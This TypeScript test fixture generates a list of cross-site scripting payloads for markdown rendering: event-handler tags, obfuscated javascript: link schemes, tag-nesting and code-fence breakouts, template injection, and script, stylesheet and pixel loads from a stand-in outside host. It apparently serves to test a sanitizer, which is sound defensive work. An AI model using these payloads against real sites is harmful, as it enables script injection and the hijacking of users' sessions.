/** The script of each payload. The test checks whether it ran. */
const script = "window.stolen=1";

const handlers = ["onload", "onerror", "onclick", "onmouseover", "onfocus", "ontoggle", "onbegin"];
const elements = ["img src=x", "svg", "body", "details open", "video src=x", "input autofocus"];

const elementPayloads = elements.flatMap((element) =>
  handlers.map((handler) => `<${element} ${handler}=${script}>`),
);

const schemes = [
  "javascript:",
  "JaVaScRiPt:",
  "java\tscript:",
  "&#106;avascript:",
  "&#x6A;avascript:",
  "javascript&colon;",
  "%6aavascript:",
  "\\javascript:",
  "vbscript:",
  "data:text/html,<script>",
  "data:image/svg+xml,<svg onload=",
  "blob:https://elsewhere.invalid/",
  "file:///etc/",
  "//elsewhere.invalid/",
];

const linkPayloads = schemes.flatMap((scheme) => [
  `[link](${scheme}${script})`,
  `[link](<${scheme}${script}>)`,
  `![image](${scheme}${script})`,
  `<${scheme}${script}>`,
]);

const shapes = [
  `<script>${script}</script>`,
  `<scr<script>ipt>${script}</scr</script>ipt>`,
  `<script src=https://elsewhere.invalid/x.js></script>`,
  `<iframe srcdoc="<script>parent.${script}</script>"></iframe>`,
  `<object data="data:text/html,<script>${script}</script>"></object>`,
  `<embed src="javascript:${script}">`,
  `<form action="javascript:${script}"><button>x</button></form>`,
  `<math href="javascript:${script}">x</math>`,
  `<style>@import "https://elsewhere.invalid/x.css";</style>`,
  `<base href="https://elsewhere.invalid/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${script}">`,
  `<link rel=stylesheet href=https://elsewhere.invalid/x.css>`,
  `<noscript><p title="</noscript><img src=x onerror=${script}>">`,
  `![x](https://elsewhere.invalid/pixel.png)`,
  `![x](/objects/../api/auth/logout)`,
  `![x" onerror="${script}](x)`,
  `[x](https://a.net "\\" onmouseover=${script})`,
  `[x]: javascript:${script}\n\n[x]`,
  `\`\`\`js\n</code></pre><img src=x onerror=${script}>\n\`\`\``,
  `\`\`\`"><img src=x onerror=${script}>\nx\n\`\`\``,
  `| a |\n| - |\n| <img src=x onerror=${script}> |`,
  `> <svg/onload=${script}>`,
  `- [ ] <img src=x onerror=${script}>`,
  `# <svg/onload=${script}>`,
  `{{constructor.constructor('${script}')()}}`,
];

/** More than a hundred ways to run a script from a markdown text. */
export const hostilePayloads: readonly string[] = [...elementPayloads, ...linkPayloads, ...shapes];

/** All payloads as one text, each a block. */
export const hostileMarkdown = [...hostilePayloads, "the last line"].join("\n\n");
